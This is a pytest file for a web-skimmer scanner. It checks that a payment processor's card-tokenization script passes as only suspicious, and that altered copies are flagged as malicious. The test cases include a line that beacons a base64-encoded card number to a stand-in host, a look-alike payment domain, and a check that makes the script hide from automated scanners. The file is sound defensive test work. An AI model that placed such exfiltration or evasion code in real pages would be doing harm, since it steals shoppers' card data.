"""policy/tokenization.py: a processor's client-side tokenization (the card posted to its API,
the answer put into the form in its place) is told from a skimmer's copy."""

from __future__ import annotations

import pytest

from skimscan.models import Severity, Verdict

API = "https://api.card-vault-payments.example/v1/tokens"
SDK = (
    "function tokenize(form) {\n"
    "  var body = {number: form.querySelector('[autocomplete=\"cc-number\"]').value,\n"
    "              cvc: form.querySelector('[autocomplete=\"cc-csc\"]').value};\n"
    f"  return fetch('{API}', {{method: 'POST', body: JSON.stringify(body)}})\n"
    "    .then(function (r) { return r.json(); });\n"
    "}\n"
    "var form = document.querySelector('#payment-form');\n"
    "form.addEventListener('submit', function (e) {\n"
    "  e.preventDefault();\n"
    "  tokenize(form).then(function (tok) {\n"
    "    var hidden = document.createElement('input');\n"
    "    hidden.type = 'hidden'; hidden.name = 'card_token'; hidden.value = tok.id;\n"
    "    form.appendChild(hidden); form.submit();\n"
    "  });\n"
    "});\n")


def test_a_card_swapped_for_the_processors_answer_is_suspicious(analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(SDK)
    assert report.verdict is Verdict.SUSPICIOUS, [(f.rule, f.severity) for f in report.findings]
    lowered = [f for f in report.findings if f.evidence.get("tokenized")]
    assert any(f.rule == "card-data-to-untrusted-host" for f in lowered)
    assert all(f.severity is Severity.MEDIUM and "approve api.card-vault-payments.example"
               in f.message for f in lowered)


@pytest.mark.parametrize("why, change", [
    ("no answer put into the form (a copy, not a swap)",
     lambda code: code.replace("hidden.value = tok.id;", "")),
    ("a field made in the callback gets a constant, not the answer",
     lambda code: code.replace("hidden.value = tok.id;", "hidden.value = '1';")),
    ("the card also goes to a second host",
     lambda code: code + "new Image().src = 'https://metrics-drop.top/c?d=' + "
                         "btoa(form.querySelector('[autocomplete=\"cc-number\"]').value);\n"),
    ("a look-alike host", lambda code: code.replace(API, "https://stripe-api.com/v1/tokens")),
    ("a script that hides from scanners",
     lambda code: "if (navigator.webdriver) { throw 0; }\n" + code),
    ("not read whole", lambda code: code + "var broken = ;\n"),
])
def test_a_copy_or_a_hidden_script_stays_malicious(why: str, change, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(change(SDK))
    assert report.verdict is Verdict.MALICIOUS, why
    assert not any(f.evidence.get("tokenized") for f in report.findings), why
